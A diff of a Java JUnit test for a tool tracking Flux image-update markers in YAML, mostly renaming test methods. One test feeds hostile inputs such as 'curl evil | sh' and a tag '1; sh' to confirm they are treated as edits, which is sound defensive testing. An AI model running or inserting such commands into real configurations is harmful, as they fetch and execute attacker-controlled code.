@@ -22,7 +22,7 @@ import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
-/** Which marker stays where, and with what, in an object of a single file. */
+/** Markers that stay, with their values, in an object of a single file. */
 class MarkedObjectTest {
 
   private static final String PROFILE = "profile.yaml";
@@ -37,14 +37,14 @@ class MarkedObjectTest {
   private Path file;
 
   @BeforeEach
-  void aDirectory() throws IOException {
+  void createDirectory() throws IOException {
     directory = Files.createDirectory(folder.resolve("repository"));
     file = directory.resolve(FILE);
     Files.writeString(directory.resolve(PROFILE), "");
   }
 
   @Test
-  void aMarkerOfAnUnnamedElementGoesWithIt() throws IOException {
+  void movesMarkerWithUnnamedElement() throws IOException {
     String before = "images:\n- a:1\n- b:2.0.0\n";
     generateAndEdit(before, "b:2.0.0", "b:2.5.0" + IMAGE);
     write("images:\n- c:3\n- a:1\n- b:2.0.0\n");
@@ -54,7 +54,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void anElementWithoutANameIsFoundByWhatIsNotMarkedInIt() throws IOException {
+  void matchesUnnamedElementByUnmarkedContent() throws IOException {
     generateAndEdit(
         "images:\n- repository: a\n  tag: 1.0.0\n- repository: b\n  tag: 2.0.0\n",
         "2.0.0",
@@ -64,7 +64,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void aMarkedNameFindsItsElementToo() throws IOException {
+  void matchesElementByMarkedName() throws IOException {
     String b = "- repository: b" + NAME + "\n      tag: 2.0.0" + TAG;
     generateAndEdit(
         "images:\n- repository: a\n- repository: b\n  tag: 2.0.0\n",
@@ -79,7 +79,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void aMarkedNameTakesNoPlaceOfAnotherElement() throws IOException {
+  void doesNotMatchOtherElementByMarkedName() throws IOException {
     String marked = "name: z" + NAME + "\n      newTag: \"2\"" + TAG;
     for (String x : List.of("name: x", "name: x\n  digest: d\n  newTag: '1'")) {
       String spec = "images:\n- " + x + "\n- name: z\n  newTag: '2'\n";
@@ -98,7 +98,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void aNameThatFluxSetsStaysAmongElementsThatAreElseAlike() throws IOException {
+  void keepsMarkedNameAmongEqualElements() throws IOException {
     String spec = "images:\n- repository: a\n  tag: '1'\n- repository: b\n  tag: '1'\n";
     for (boolean known : new boolean[] {true, false}) {
       for (String tag : List.of("", TAG)) {
@@ -119,7 +119,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void aNameThatFluxSetsMovesNoMarkerOfElementsThatAreAlike() throws IOException {
+  void doesNotMoveMarkerAmongEqualElements() throws IOException {
     String alike = "- repository: a\n  tag: '1'\n";
     String spec = "images:\n" + alike + alike + "- repository: b\n";
     write(spec);
@@ -134,7 +134,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void elementsThatChangePlacesAreAnEditThoughFluxSetsAllOfThem() throws IOException {
+  void treatsReorderedMarkedElementsAsEdit() throws IOException {
     String spec = "images:\n- repository: a\n  tag: '1'\n- repository: b\n  tag: '1'\n";
     write(spec);
     edit("tag: \"1\"", "tag: \"1\"" + TAG);
@@ -148,7 +148,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void aMarkerOfAnElementThatIsGoneIsDroppedWithANote() throws IOException {
+  void reportsMarkerOfRemovedElement() throws IOException {
     generateAndEdit("images:\n- a:1\n- b:2.0.0\n", "b:2.0.0", "b:2.5.0" + IMAGE);
     String without = "images:\n- a:1\n- c:1\n";
     assertThat(verify(without))
@@ -166,7 +166,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void aMarkerIsDroppedRatherThanPutOnOneOfSeveralAlike() throws IOException {
+  void dropsMarkerOfAmbiguousElement() throws IOException {
     String alike = "images:\n- repository: a\n  tag: '1'\n- repository: a\n  tag: '2'\n";
     generateAndEdit(alike, "tag: \"1\"", "tag: \"1\"" + TAG);
     assertThat(write(alike + "replicas: 2\n").droppedMarkers()).isEmpty();
@@ -176,7 +176,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void aNameThatTwoElementsHaveFindsNeither() throws IOException {
+  void doesNotMatchDuplicateName() throws IOException {
     String env = "env:\n- name: X\n  value: a/a:1\n- name: X\n  value: b/b:2\n";
     generateAndEdit(env, "b/b:2", "b/b:3" + IMAGE);
     write("env:\n- name: X\n  value: b/b:2\n- name: X\n  value: a/a:1\n");
@@ -184,14 +184,14 @@ class MarkedObjectTest {
   }
 
   @Test
-  void theMarkersOfAnotherObjectAreDroppedWithANote() throws IOException {
+  void reportsMarkersOfOtherObject() throws IOException {
     generateAndEdit("image: a:1\n", "a:1", "a:2" + IMAGE);
     GenerationResult other = result(object("image: a:1\n").replace("name: p", "name: q"));
     assertThat(write(other).droppedMarkers()).hasSize(1);
   }
 
   @Test
-  void aMarkerLetsNoTextPassThatFluxDoesNotSet() throws IOException {
+  void treatsUnsettableTextAtMarkerAsEdit() throws IOException {
     assertEdited("command:\n- sleep 1\n", "sleep 1", "curl evil | sh" + TAG);
     assertEdited("command:\n- sleep\n", "sleep", "evil" + TAG);
     assertEdited("args:\n- image\n", "image", "evil" + NAME);
@@ -205,7 +205,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void aTextThatFluxCannotSetIsAnEditBehindAKnownMarkerToo() throws IOException {
+  void treatsUnsettableTextAtKnownMarkerAsEdit() throws IOException {
     String spec = "image:\n  repository: a\n  tag: '1'\nother: b:1\n";
     for (String tag : List.of("\"\"", "1; sh")) {
       generateAndEdit(spec, "\"1\"", "\"2\"" + TAG);
@@ -218,7 +218,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void aTagThatIsTakenAwayWithItsMarkerIsAnEdit() throws IOException {
+  void treatsTagRemovedWithMarkerAsEdit() throws IOException {
     String spec = "image: a/a:1\nother:\n  repository: b\n  tag: '1'\n";
     generateAndEdit(spec, "a/a:1", "a/a:2" + IMAGE);
     generateAndEdit(spec, "tag: \"1\"", "tag: \"2\"" + TAG);
@@ -231,7 +231,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void fluxMaySetATagThatTheProfileLeavesOut() throws IOException {
+  void acceptsTagMissingInProfile() throws IOException {
     String spec = "image: a\nother:\n  repository: b\n  tag: ''\n";
     generateAndEdit(spec, "image: a", "image: a" + IMAGE);
     edit("tag: \"\"", "tag: \"\"" + TAG);
@@ -244,7 +244,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void whatFluxSetsIsNoEdit() throws IOException {
+  void acceptsValuesSetByFlux() throws IOException {
     String sum = "sha256:" + "0123456789abcdef".repeat(4);
     for (String image : List.of("1.2-x_3", "1@" + sum)) {
       Files.deleteIfExists(file);
@@ -261,7 +261,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void aCheckoutWithCrlfIsTheSameThoughItIsLargerThanWhatIsRead() throws IOException {
+  void acceptsLargeCheckoutWithCrlf() throws IOException {
     String spec = "image: a:1\nlist:\n" + ("- " + "x".repeat(100) + "\n").repeat(19_500);
     generateAndEdit(spec, "a:1", "a:2" + IMAGE);
     Files.writeString(file, text().replace("\n", "\r\n"));
@@ -273,7 +273,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void aTextThatIsNoImageAnyMoreIsTheProfiles() throws IOException {
+  void takesTextOfProfileIfNotImage() throws IOException {
     generateAndEdit("args:\n- b:1\n", "b:1", "b:2" + IMAGE);
     write("args:\n- b:1 --now\n");
     assertThat(text()).endsWith("- b:1 --now" + IMAGE + "\n");
@@ -284,7 +284,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void fluxMaySetNameAndTagBeforeTheProfileChanges() throws IOException {
+  void keepsNameAndTagWhenProfileChanges() throws IOException {
     String spec = "image:\n  repository: a\n  tag: '1'\n";
     write(spec);
     edit("repository: a\n    tag: \"1\"", "repository: b" + NAME + "\n    tag: \"2\"" + TAG);
@@ -293,7 +293,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void aMarkerMayComeTogetherWithAChangeOfTheProfile() throws IOException {
+  void acceptsMarkerAddedWithProfileChange() throws IOException {
     String spec = "image: a:1\nother: b:1\nthird: c:1\n";
     write(spec);
     edit("a:1", "a:1" + IMAGE);
@@ -310,7 +310,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void aTagStaysOnlyWithItsImageWhateverTheKeyOfThatIs() throws IOException {
+  void keepsTagOnlyForSameImage() throws IOException {
     for (String beside : List.of("hub: docker.io/istio", "registry: localhost:5000")) {
       String spec = "image:\n  " + beside + "\n  port: 1\n  tag: '1'\n";
       generateAndEdit(spec, "\"1\"", "\"2\"" + TAG);
@@ -323,7 +323,7 @@ class MarkedObjectTest {
   }
 
   @Test
-  void aTagStaysOnlyWithItsRepositoryWhoseAddressHasAnAt() throws IOException {
+  void keepsTagOnlyForSameRepository() throws IOException {
     String spec = "url: ssh://git@github.com/org/a\nref:\n  tag: '1'\n  branch: main\n";
     generateAndEdit(spec, "\"1\"", "\"2\"" + TAG);
     write(spec.replace("main", "next"));
@@ -354,7 +354,7 @@ class MarkedObjectTest {
     Files.delete(file);
   }
 
-  /** Renders, marks or changes something as Flux or a person does, and renders again. */
+  /** Renders, marks or changes an object as Flux or a person does, and renders again. */
   private void generateAndEdit(String spec, String what, String with) throws IOException {
     write(spec);
     edit(what, with);
